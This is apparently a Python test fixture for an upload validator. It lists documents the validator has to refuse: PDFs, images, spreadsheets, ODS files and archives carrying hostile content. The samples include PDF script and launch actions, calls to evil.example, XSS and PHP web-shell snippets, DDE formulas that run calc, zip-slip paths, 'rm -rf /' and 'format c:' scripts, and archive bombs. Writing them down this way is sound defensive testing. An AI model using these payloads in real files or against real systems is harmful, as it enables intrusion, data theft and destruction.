"""Documents that must be refused, and the code that says why."""

import hashlib

from tests.intake.wallet.files import (
    BOMB,
    HTML,
    SHEET,
    SVG,
    archive,
    blank,
    commented,
    compressed,
    encrypted,
    jpeg,
    locked,
    lying_about_sizes,
    ods,
    pdf,
    png,
    related,
    shifted,
    types,
    xlsx,
)

IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
BOOK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"
DDE = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'


def noise(size: int) -> bytes:
    """Bytes that do not pack well, so that nothing is refused for packing too well."""
    return hashlib.shake_128(b"noise").hexdigest(size // 2).encode()


REFUSED = {
    "svg with a script": (SVG, "active_content"),
    "html": (HTML, "active_content"),
    "html behind blanks": (b"\n\t " + HTML, "active_content"),
    "html behind a line of text": (b"Bonjour\n" + HTML, "active_content"),
    "pdf that is a page too": (pdf(HTML), "active_content"),
    "pdf that is an archive too": (pdf() + xlsx() + b"%%EOF", "active_content"),
    "pdf with a script": (pdf(b"<< /S /JavaScript /JS (app.alert) >>"), "active_content"),
    "pdf with a script, spelt otherwise": (pdf(b"<< /S /J#61v#61Script >>"), "active_content"),
    "pdf that starts a program": (pdf(b"<< /S /Launch /F (cmd.exe) >>"), "active_content"),
    "pdf with a file in it": (pdf(b"<< /Type /EmbeddedFile >>"), "active_content"),
    **{
        f"pdf with {name}": (compressed(pdf(b"", inner, catalogue=b"/Inner 4 0 R")), "active_content")
        for name, inner in {
            "a hidden script": b"<< /S /JavaScript /JS (app.alert) >>",
            "a hidden script within an array": b"[[<< /S /JavaScript /JS (app.alert) >>]]",
            "a hidden start of a program": b"<< /S /Launch /F (cmd.exe) >>",
            "a hidden form that sends": b"<< /S /SubmitForm /F (https://evil.example) >>",
            "hidden files": b"<< /EmbeddedFiles << /Names [] >> >>",
            "a hidden file": b"<< /Type /Filespec /EF << >> >>",
            "a hidden XFA form": b"<< /XFA (form) >>",
            "hidden rich media": b"<< /Type /Annot /Subtype /RichMedia >>",
            "a hidden trigger": b"<< /AA << /O << /S /URI /URI (https://evil.example) >> >> >>",
        }.items()
    },
    **{
        f"pdf with a link to {address[:10].decode()}": (
            pdf(catalogue=b"/X << /Type /Annot /Subtype /Link /A << /S /URI /URI (" + address + b") >> >>"),
            "active_content",
        )
        for address in (
            b"javascript:alert(1)",
            b"file://evil.example/x",
            b" Data:text/html,x",
            rb"\134\134evil.example",
        )
    },
    **{
        f"pdf with {name}": (pdf(b"", inner, catalogue=b"/Inner 4 0 R"), "active_content")
        for name, inner in {
            "a file of another host": rb"<< /Type /Filespec /F (\\\\evil.example\\x) >>",
            "a file of another host, by slashes": rb"<< /Type /Filespec /UF (//evil.example/x) >>",
            "a file of another host, in UTF-16": b"<< /Type /Filespec /UF <FEFF005C005C006500760069006C005C0078> >>",
            "a file of a drive": rb"<< /Type /Filespec /F (/c/windows/x) >>",
            "a page of another file": rb"<< /S /GoToR /F (x.pdf) /D [0 /Fit] >>",
            "a stream that lies elsewhere": b"<< /Length 0 /F (x.bin) >> stream\n\nendstream",
            "a base for its links": b"<< /URI << /Base (file://evil.example/) >> >>",
        }.items()
    },
    "pdf with an action that its table does not list": (
        pdf(b"9 0 obj << /S /GoToR /F (x.pdf) /D [0 /Fit] >> endobj"),
        "active_content",
    ),
    "pdf that opens an address": (
        pdf(catalogue=b"/OpenAction << /S /URI /URI (https://evil.example) >>"),
        "active_content",
    ),
    "pdf with a password": (locked(pdf()), "content_damaged"),
    "pdf in name alone": (b"%PDF-1.7\nnothing\n%%EOF\n", "content_damaged"),
    "html far behind text": (b"GET / 200\n" * 7_000 + HTML, "active_content"),
    **{
        f"text with {markup[:24].decode()}": (b"Rapport conforme\n" + markup, "active_content")
        for markup in (
            b"<img src=x onerror=alert(1)>",
            b"<x/onclick=alert(1)>",
            b"<x a='b'onpointerover = alert(1)>",
            b"<a href=javascript:alert(1)>",
            b'<a href="data:text/html,x">',
            b"<meta http-equiv=refresh content=0>",
            b"<MATH/href=x>",
            b"<x:script>alert(1)</x:script>",
            b"<?php system('id'); ?>",
            b"<% eval request(1) %>",
        )
    },
    "rtf": (rb"{\rtf1\ansi hello}", "media_type_refused"),
    "rtf behind a mark": (b"\xef\xbb\xbf" + rb"{\rtf1\ansi hello}", "media_type_refused"),
    "batch file": (b"@echo off\r\nformat c:\r\n", "media_type_refused"),
    "shell script": (b"#!/bin/sh\nrm -rf /\n", "media_type_refused"),
    "postscript": (b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n", "media_type_refused"),
    "symbolic link of tables": (b"ID;P\nC;X1;Y1;EMSEXCEL|'..\\calc'!A0\n", "media_type_refused"),
    "page saved as a message": (b"MIME-Version: 1.0\nContent-Type: multipart/related\n", "media_type_refused"),
    "pdf cut off": (pdf()[:-8], "content_damaged"),
    "page that calls itself pdf": (HTML + pdf(), "active_content"),
    "png with a page behind it": (png(after=HTML), "content_damaged"),
    "png with a page in it": (png(HTML), "active_content"),
    "png cut off": (png()[:-6], "content_damaged"),
    "jpeg with a page in it": (jpeg(HTML), "active_content"),
    "jpeg with code of a server in its comment": (jpeg(b"<?php system($_GET['c']); ?>"), "active_content"),
    "jpeg with short code of a server in its comment": (jpeg(b"<?=`$_GET[0]`?>"), "active_content"),
    "jpeg with a handler of events in its comment": (jpeg(b"<img src=x onerror=alert(1)>"), "active_content"),
    "png with code of a server in a note": (png(b"Comment\0<?=`$_GET[0]`?>"), "active_content"),
    "jpeg with bytes behind it": (jpeg() + b"Rar!", "content_damaged"),
    "jpeg in name alone": (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\xff\xd9", "content_damaged"),
    "png with a wrong checksum": (png().replace(b"\x08\x02\0\0\0", b"\x08\x02\0\0\1"), "content_damaged"),
    "png of too many pixels": (blank("PNG", 6_001, 4_000), "image_too_large"),
    "png bomb": (blank("PNG", 20_000, 20_000), "image_too_large"),
    "jpeg of too many pixels": (blank("JPEG", 6_001, 4_000), "image_too_large"),
    "jpeg that is held whole, of too many pixels": (blank("JPEG", 4_001, 3_000, progressive=True), "image_too_large"),
    "jpeg cut off": (jpeg()[:-2], "content_damaged"),
    "program": (b"MZ\x90\x00\x03\x00\x00\x00", "media_type_refused"),
    "text in another coding": ("Rapport validé".encode("latin-1"), "media_type_refused"),
    "archive of anything": (archive({"a.txt": b"a"}), "media_type_refused"),
    "archive bomb": (xlsx(**{"xl/media.xml": BOMB}), "archive_refused"),
    "archive that lies about sizes": (lying_about_sizes(xlsx()), "archive_refused"),
    "archive of a hundred thousand": (archive({**SHEET, **{f"{n}": b"" for n in range(5_001)}}), "archive_refused"),
    "archive that climbs out": (xlsx(**{"../../etc/cron.d/job": b"* * * * *"}), "archive_refused"),
    "archive with an absolute name": (xlsx(**{"/etc/passwd": b"root"}), "archive_refused"),
    "archive with a drive": (xlsx(**{"C:/run.bat": b"run"}), "archive_refused"),
    "archive with a password": (encrypted(xlsx()), "archive_refused"),
    "archive cut off": (xlsx()[:-30], "archive_refused"),
    "spreadsheet with macros": (xlsx(**{"xl/vbaProject.bin": b"macro"}), "active_content"),
    "ods with macros": (ods(**{"Basic/Standard/Module1.xml": b"<script/>"}), "active_content"),
    "spreadsheet with another document in it": (xlsx(**{"xl/embeddings/a.bin": b"object"}), "active_content"),
    "spreadsheet with a document type behind 256 KB": (
        xlsx(**{"xl/styles.xml": b"<!--" + noise(300_000) + b"--><!DOCTYPE x><x/>"}),
        "active_content",
    ),
    "spreadsheet with a document type in UTF-16": (
        xlsx(**{"xl/styles.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>'.encode("utf-16")}),
        "active_content",
    ),
    "spreadsheet with a document type in a part of another ending": (
        xlsx(**{"xl/worksheets/sheet1.DAT": b"<!DOCTYPE x><x/>"}),
        "active_content",
    ),
    "spreadsheet with a sheet in a coding that no parser here reads": (
        xlsx(**{"xl/styles.xml": "<!DOCTYPE x><x/>".encode("utf-32")}),
        "archive_refused",
    ),
    "spreadsheet that starts a program by DDE": (
        xlsx(**{"xl/externalLinks/externalLink1.xml": DDE.encode()}),
        "active_content",
    ),
    "spreadsheet that starts a program by DDE, in UTF-16": (
        xlsx(**{"xl/other.bin": DDE.encode("utf-16")}),
        "active_content",
    ),
    "ods that reads by DDE": (
        ods(**{"content2.xml": b'<o xmlns:text="t"><text:dde-connection/></o>'}),
        "active_content",
    ),
    "ods that starts a macro": (
        ods(**{"styles.xml": b'<o xmlns:script="s"><script:event-listener/></o>'}),
        "active_content",
    ),
    "spreadsheet with an object of another program": (
        xlsx(**{"xl/worksheets/sheet1.xml": b'<w><oleObjects><oleObject progId="Package"/></oleObjects></w>'}),
        "active_content",
    ),
    "spreadsheet that fetches a picture when it is opened": (
        xlsx(**{"xl/worksheets/_rels/sheet1.xml.rels": related(IMAGE, "file://evil.example/x", "External")}),
        "active_content",
    ),
    **{
        f"spreadsheet with {formula[:30]}": (
            xlsx(**{"xl/worksheets/sheet1.xml": f"<w><c><f>{formula}</f><v>1</v></c></w>".encode()}),
            "active_content",
        )
        for formula in (
            'WEBSERVICE("https://evil.example")',
            '1+_xlfn.WEBSERVI&#67;E ("https://evil.example")',
            "cmd|'/C calc'!A0",
            "'cmd'|'/C \"calc'!A0&amp;\"\"",
            '_xlfn.IMAGE("https://evil.example/x.png")',
            'RTD("prog","",1)',
            r"'\\evil.example\[a.xlsx]S'!A1",
            r'HYPERLINK("\\evil.example\x","a")',
        )
    },
    "spreadsheet with an element within a formula": (
        xlsx(**{"xl/worksheets/sheet1.xml": b"<w><f>1+<x/>WEBSERVICE(A1)</f></w>"}),
        "active_content",
    ),
    "spreadsheet with a formula in UTF-16": (
        xlsx(**{"xl/worksheets/sheet1.xml": "<w><f>WEBSERVICE(A1)</f></w>".encode("utf-16")}),
        "active_content",
    ),
    "spreadsheet with a name that computes": (
        xlsx(**{"xl/workbook.xml": b"<w><definedName name='a'>cmd|' /C calc'!A0</definedName></w>"}),
        "active_content",
    ),
    "spreadsheet with connections": (
        xlsx(**{"xl/connections.xml": b"<connections><connection id='1'/></connections>"}),
        "active_content",
    ),
    "spreadsheet with connections, by their type": (
        xlsx(**{"[Content_Types].xml": types(("/a.xml", "application/vnd.ms-excel.connections+xml"))}),
        "active_content",
    ),
    "spreadsheet with a query": (xlsx(**{"customXml/item1.xml": b"<DataMashup>x</DataMashup>"}), "active_content"),
    "spreadsheet with a link to a host": (
        xlsx(**{"xl/worksheets/_rels/sheet1.xml.rels": related(HYPERLINK, r"\\evil.example\x", "External")}),
        "active_content",
    ),
    "spreadsheet with a book of another host": (
        xlsx(**{"xl/externalLinks/_rels/a.xml.rels": related(BOOK, "file://evil.example/x", "External")}),
        "active_content",
    ),
    "spreadsheet with a sheet cut off": (xlsx(**{"xl/worksheets/sheet1.xml": b"<w><c></w>"}), "archive_refused"),
    **{
        f"ods with {inner[:40]}": (
            ods(**{"content.xml": f'<o xmlns:x="a" xmlns:t="b">{inner}</o>'.encode()}),
            "active_content",
        )
        for inner in (
            '<t:a x:href="macro:///Standard.Module1.Main()">a</t:a>',
            '<t:a x:href="vnd.sun.star.script:a">a</t:a>',
            '<t:a x:href="ma&#10;cro:a">a</t:a>',
            '<t:a x:href="%5C%5Cevil.example%5Cx">a</t:a>',
            '<t:button t:target-location="macro:///a"/>',
            '<t:image x:href="https://evil.example/x.png"/>',
            '<t:table-source x:href="../other.ods"/>',
            '<t:table-cell t:formula="of:=WEBSERVICE(&quot;https://evil.example&quot;)"/>',
            '<t:table-cell t:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)"/>',
            "<t:table-cell t:formula=\"of:=['file://evil.example/x.ods'#$A.A1]\"/>",
            '<t:database-source-sql t:database-name="a"/>',
        )
    },
    "ods with a script": (
        ods(**{"content2.xml": b'<o xmlns:s="x"><s:script s:language="x">MsgBox</s:script></o>'}),
        "active_content",
    ),
    "spreadsheet with buttons of its own": (xlsx(**{"customUI/customUI14.xml": b"<customUI/>"}), "active_content"),
    "spreadsheet with buttons under another name": (
        xlsx(
            **{"_rels/.rels": related("http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "a")}
        ),
        "active_content",
    ),
    "spreadsheet with renamed macros, by their type": (
        xlsx(**{"[Content_Types].xml": types(("/xl/a.bin", "application/vnd.ms-office.&#118;baProject"))}),
        "active_content",
    ),
    "spreadsheet with renamed macros, by their relationship": (
        xlsx(
            **{
                "xl/_rels/workbook.xml.rels": related(
                    "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a"
                )
            }
        ),
        "active_content",
    ),
    "spreadsheet with renamed macros, by their bytes": (
        xlsx(**{"xl/vbaPROJECT2.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
        "active_content",
    ),
    "spreadsheet with another document under any name": (xlsx(**{"xl/a.dat": xlsx()}), "active_content"),
    "archive with a page in its comment": (commented(xlsx(), HTML), "archive_refused"),
    "archive with a page behind it": (xlsx() + HTML, "archive_refused"),
    "archive with bytes before it": (shifted(xlsx(), b"PK\x03\x04" + HTML), "archive_refused"),
    "archive behind another": (b"PK\x03\x04" + HTML + xlsx(), "archive_refused"),
    "spreadsheet with entities": (xlsx(**{"xl/styles.xml": b'<!DOCTYPE x [<!ENTITY a "aa">]>'}), "active_content"),
}
